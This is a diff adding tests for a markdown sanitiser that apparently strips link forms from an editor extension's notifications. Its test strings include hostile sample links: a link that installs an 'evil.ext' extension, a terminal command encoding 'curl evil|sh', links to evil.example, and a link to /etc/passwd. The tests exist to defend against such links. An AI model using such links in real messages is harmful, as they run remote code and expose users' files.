@@ -3,7 +3,8 @@
 // editor's hovers), gives no link, image, HTML element or markup, and reads as it was sent.
 import * as assert from 'node:assert/strict';
 import MarkdownIt from 'markdown-it';
-import { codeBlock, escapeMarkdown, inlineCode } from '../../../src/ui/markdown';
+import { codeBlock, escapeMarkdown, inlineCode, noLinks } from '../../../src/ui/markdown';
+import { editorLinks } from '../../harness/editorLinks';
 
 const md = new MarkdownIt({ html: true, linkify: true, typographer: false });
 
@@ -117,5 +118,44 @@ describe('ui: markdown, exact output', () => {
     assert.equal(codeBlock('x', 'j s!'), '\n```js\nx\n```\n');
     assert.equal(codeBlock(null), '\n```text\n\n```\n');
     assert.equal(escapeMarkdown(null), '');
+  });
+});
+
+// The editor's own link pattern (test/harness/editorLinks.ts; the host suite checks the running
+// editor carries it) finds no link in what noLinks gave back.
+describe('notifications and quick input messages: no link forms (issue 22)', () => {
+  const linked = [
+    '[Retry](command:workbench.extensions.installExtension?%5B%22evil.ext%22%5D)',
+    '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
+    '[x](https://evil.example/)',
+    '[x](HTTP://evil.example/)',
+    '[open](file:///etc/passwd)',
+    '[titled](command:workbench.action.quit "Retry")',
+    "[titled](https://evil.example/ 'Open')",
+    'The server said: [Retry](command:a) and [Edit](command:b)',
+    '[[x](command:a)](command:b)',
+    '[split\n](command:a)',
+  ];
+
+  it('each of these is a link to the editor as written (the pattern is a real one)', () => {
+    assert.deepEqual(
+      linked.filter((t) => editorLinks(t).length === 0),
+      [],
+    );
+  });
+
+  it('none is, once through noLinks; the text reads the same, an invisible joiner aside', () => {
+    for (const text of linked) {
+      const plain = noLinks(text);
+      assert.deepEqual(editorLinks(plain), [], text);
+      assert.equal(plain.replaceAll('\u2060', ''), text);
+    }
+  });
+
+  it('every `](` is kept apart, however many; text without one is unchanged; undefined stays undefined', () => {
+    assert.equal(noLinks(']('.repeat(3)), ']\u2060(]\u2060(]\u2060(');
+    assert.equal(noLinks('Signed in to https://api.buddy.works as [Alice] (admin).'), 'Signed in to https://api.buddy.works as [Alice] (admin).');
+    assert.equal(noLinks(''), '');
+    assert.equal(noLinks(undefined), undefined);
   });
 });
